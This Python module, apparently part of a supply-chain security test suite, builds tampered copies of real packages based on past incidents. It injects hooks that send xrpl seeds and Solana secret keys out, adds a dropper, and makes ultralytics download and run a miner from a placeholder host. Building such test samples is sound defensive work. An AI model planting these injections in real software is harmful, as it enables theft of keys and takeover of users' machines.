"""What bad releases change inside the files of their real predecessors, where it is more than a file or a line at the end."""

import json
import re

from gauntlet import forms
from gauntlet.ground import Bytes, Edit
from gauntlet.incidents import lightning_2026, solana_web3js_2024, ultralytics_2024, xrpl_2025

_XRPL_NODE = ("dist/npm/Wallet/index.js", "dist/npm/src/Wallet/index.js")
_XRPL_WEB = "build/xrpl-latest-min.js"


def inserted(files: Bytes, path: str, pattern: str, text: str) -> dict[str, bytes]:
    """The files with the first match of a pattern in one of them replaced. Raises ValueError where nothing matches."""
    if path not in files:
        raise ValueError(f"there is no {path}")
    changed, count = re.subn(pattern, text, files[path].decode(), count=1, flags=re.MULTILINE)
    if count == 0:
        raise ValueError(f"{path} has no place for {text[:40]!r}")
    return {**files, path: changed.encode()}


def emptied(files: Bytes) -> Bytes:
    """All code gone, and a text in its place."""
    return {
        "package.json": files.get("package.json", b"{}"),
        "README.md": b"# What really happened?\n\nmarker\n",
    }


def remote_access(files: Bytes) -> Bytes:
    """rand-user-agent: a shuffled program behind white space, on a line of the file that is imported."""
    line = forms.shuffled_loader(forms.remote_access())
    return {**files, "dist/index.js": forms.behind_white_space(files["dist/index.js"], line)}


def copied(*, bad: bool) -> Edit:
    """plain-crypto-js: a renamed copy of crypto-js; the bad one has the dropper and the manifest that it leaves behind."""

    def edit(files: Bytes) -> Bytes:
        out = dict(files)
        if bad:
            clean = {**json.loads(files["package.json"]), "name": "plain-crypto-js", "version": "4.2.0"}
            out["setup.js"] = forms.dropper().encode()
            out["package.md"] = json.dumps(clean, indent=2).encode() + b"\n"
        return out

    return edit


def mines(files: Bytes) -> Bytes:
    """ultralytics: making a model fetches a miner for the system and starts it."""
    path = "ultralytics/utils/downloads.py"
    out = {**files, path: files[path] + ultralytics_2024.RUNNER.encode()}
    model = "ultralytics/models/yolo/model.py"
    start = (
        "        environment = (platform.system(), platform.machine())\n"
        '        if environment == ("Linux", "x86_64"):\n'
        '            safe_run(safe_download("https://files.invalid/marker/linux_x86", progress=False))\n'
        '        elif environment == ("Darwin", "arm64"):\n'
        '            safe_run(safe_download("https://files.invalid/marker/macos_arm64", progress=False))\n'
    )
    out = inserted(out, model, r"^from pathlib import Path\n", "import platform\nfrom pathlib import Path\n")
    out = inserted(
        out,
        model,
        r"^from ultralytics\.utils import ROOT",
        "from ultralytics.utils.downloads import safe_download, safe_run\nfrom ultralytics.utils import ROOT",
    )
    return inserted(out, model, r"^        path = Path\(model\)\n", f"{start}        path = Path(model)\n")


def sends_keys(files: Bytes) -> Bytes:
    """@solana/web3.js: a function among those of the library, called wherever a secret key goes through."""
    out = dict(files)
    for path in (f"lib/index.{kind}.js" for kind in ("cjs", "esm", "browser.cjs", "browser.esm")):
        text = solana_web3js_2024.SENDS.replace("encode(key)", "bs58.encode(key)")
        out = inserted(out, path, r"^class Keypair \{", f"{text.strip()}\nclass Keypair {{")
        for name in (r"fromSecretKey\(secretKey, options\)", r"fromSeed\(seed\)"):
            known = "secretKey" if "SecretKey" in name else "seed"
            out = inserted(out, path, rf"^(  static {name} \{{\n)", rf"\g<1>    addToQueue({known});\n")
    return out


def sends_seeds(*, node: bool, web: bool, bare: bool = False) -> Edit:
    """xrpl: whoever makes a wallet sends its seed away, in the code for Node, in the bundle for browsers, or in both."""

    def edit(files: Bytes) -> Bytes:
        out = dict(files)
        for path in _XRPL_NODE if node else ():
            if path in files:
                out = inserted(out, path, r"^class Wallet \{", xrpl_2025.THIEF + "class Wallet {")
                made = r"^(    constructor\(publicKey, privateKey, opts = \{\}\) \{\n)"
                out = inserted(out, path, made, r"\g<1>        checkValidityOfSeed(privateKey);" + "\n")
                derived = r"^(    static deriveWallet\(seed, opts = \{\}\) \{\n)"
                out = inserted(out, path, derived, r"\g<1>        checkValidityOfSeed(seed);" + "\n")
        if web:
            thief = " ".join(xrpl_2025.THIEF.replace("const validSeeds", "var validSeeds").split())
            made = r"(constructor\(\w,(\w),\w=\{\}\)\{)(this\.publicKey=)"
            out = inserted(out, _XRPL_WEB, made, r"\g<1>checkValidityOfSeed(\g<2>),\g<3>")
            out = inserted(
                out,
                _XRPL_WEB,
                r"(static deriveWallet\((\w),\w(?:=\{\})?\)\{)",
                r"\g<1>checkValidityOfSeed(\g<2>);",
            )
            out[_XRPL_WEB] = thief.encode() + b"\n" + out[_XRPL_WEB]
        if bare:
            manifest = json.loads(out["package.json"])
            manifest.pop("scripts", None)
            out["package.json"] = json.dumps(manifest, indent=2).encode() + b"\n"
        return out

    return edit


def starts_bundle(files: Bytes) -> Bytes:
    """lightning: importing it starts a thread that has Bun run a bundle of the wheel."""
    out = dict(files)
    out["lightning/__init__.py"] += lightning_2026.START.encode()
    return out | lightning_2026.dropped()
